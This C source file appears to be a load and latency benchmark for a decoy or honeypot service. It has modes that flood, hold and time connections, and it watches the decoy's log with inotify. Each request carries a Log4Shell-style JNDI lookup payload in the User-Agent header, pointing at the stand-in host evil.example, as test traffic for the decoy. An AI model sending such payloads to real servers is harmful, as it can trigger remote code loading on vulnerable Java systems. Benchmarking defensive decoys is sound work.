/* Load for the decoy, and what it is compared with:
 *
 *   decoy_load accept PORT               a bare epoll acceptor: takes a connection, reads once, closes
 *   decoy_load fire HOST PORT N [PAGE]   N requests with a payload, each closed at once; prints connections per second
 *   decoy_load hold HOST PORT N          N connections held until standard input ends; prints how many stand
 *   decoy_load delay HOST PORT N FILE    N requests one by one; prints the 50th and 99th percentile of microseconds until the line is in FILE
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec t;
    (void)clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static struct sockaddr_in address(const char *host, const char *port)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)strtoul(port, NULL, 10))};
    if (inet_pton(AF_INET, host, &a.sin_addr) != 1) exit(2);
    return a;
}

static int serve(const char *port)
{
    struct sockaddr_in a = address("127.0.0.1", port);
    struct epoll_event e = {.events = EPOLLIN}, got[256];
    char room[16384];
    int one = 1, l = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), epoll = epoll_create1(0);
    (void)setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(l, (struct sockaddr *)&a, sizeof a) != 0 || listen(l, 4096) != 0) return 1;
    e.data.fd = l;
    (void)epoll_ctl(epoll, EPOLL_CTL_ADD, l, &e);
    for (;;) {
        int n = epoll_wait(epoll, got, 256, -1);
        for (int i = 0; i < n; i++) {
            if (got[i].data.fd != l) {
                (void)!read(got[i].data.fd, room, sizeof room);
                (void)close(got[i].data.fd);
                continue;
            }
            int fd;
            while ((fd = accept4(l, NULL, NULL, SOCK_NONBLOCK)) >= 0) {
                e.data.fd = fd;
                (void)epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &e);
            }
        }
    }
}

static const char *page = "/";

static int request(const struct sockaddr_in *a, unsigned long i)
{
    char text[256];
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (const struct sockaddr *)a, sizeof *a) != 0) return -1;
    int n = snprintf(text, sizeof text, "GET %sr%lu HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://evil.example/r%lu}\r\n\r\n", page, i, i);
    (void)!send(fd, text, (size_t)n, MSG_NOSIGNAL);
    (void)close(fd);
    return 0;
}

static int fire(const struct sockaddr_in *a, unsigned long n)
{
    double begin = now();
    for (unsigned long i = 0; i < n; i++)
        while (request(a, i) != 0) (void)usleep(1000);
    printf("%.0f\n", (double)n / (now() - begin));
    return 0;
}

static int hold(const struct sockaddr_in *a, unsigned long n)
{
    struct rlimit r = {n + 100, n + 100};
    unsigned long stands = 0;
    char c;
    (void)setrlimit(RLIMIT_NOFILE, &r);
    for (unsigned long i = 0; i < n; i++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        stands += fd >= 0 && connect(fd, (const struct sockaddr *)a, sizeof *a) == 0;
    }
    printf("%lu\n", stands);
    (void)fflush(stdout);
    (void)!read(0, &c, 1);
    return 0;
}

static int by_size(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

/* It sleeps until the file has grown, as who follows a file does: one that asks on and on takes the core from what it measures, and is itself
 * taken off the core in the middle of what it measures. */
static int delay(const struct sockaddr_in *a, unsigned long n, const char *path)
{
    static char room[1 << 20];
    double *took = calloc(n, sizeof *took);
    int fd = open(path, O_RDONLY), grown = inotify_init1(IN_NONBLOCK);
    if (fd < 0 || !took || inotify_add_watch(grown, path, IN_MODIFY) < 0) return 1;
    struct pollfd wait = {grown, POLLIN, 0};
    char events[4096];
    (void)lseek(fd, 0, SEEK_END);
    for (unsigned long i = 0; i < n; i++) {
        char mark[32];
        size_t have = 0;
        (void)snprintf(mark, sizeof mark, "/r%lu\"", i);
        double begin = now();
        if (request(a, i) != 0) return 1;
        for (;;) {
            ssize_t got = read(fd, room + have, sizeof room - have - 1);
            if (got > 0) have += (size_t)got;
            room[have] = 0;
            if (memmem(room, have, mark, strlen(mark))) break;
            if (now() - begin > 5) return 1;
            if (got > 0 || poll(&wait, 1, 1000) <= 0) continue;
            (void)!read(grown, events, sizeof events); /* then what has grown is read */
        }
        took[i] = now() - begin;
        (void)usleep(500);
    }
    qsort(took, n, sizeof *took, by_size);
    printf("%.0f %.0f\n", took[n / 2] * 1e6, took[n * 99 / 100] * 1e6);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "accept") == 0) return serve(argv[2]);
    if (argc < 5) return 2;
    struct sockaddr_in a = address(argv[2], argv[3]);
    unsigned long n = strtoul(argv[4], NULL, 10);
    if (strcmp(argv[1], "fire") == 0 && argc == 6) page = argv[5];
    if (strcmp(argv[1], "fire") == 0) return fire(&a, n);
    if (strcmp(argv[1], "hold") == 0) return hold(&a, n);
    if (strcmp(argv[1], "delay") == 0 && argc == 6) return delay(&a, n, argv[5]);
    return 2;
}
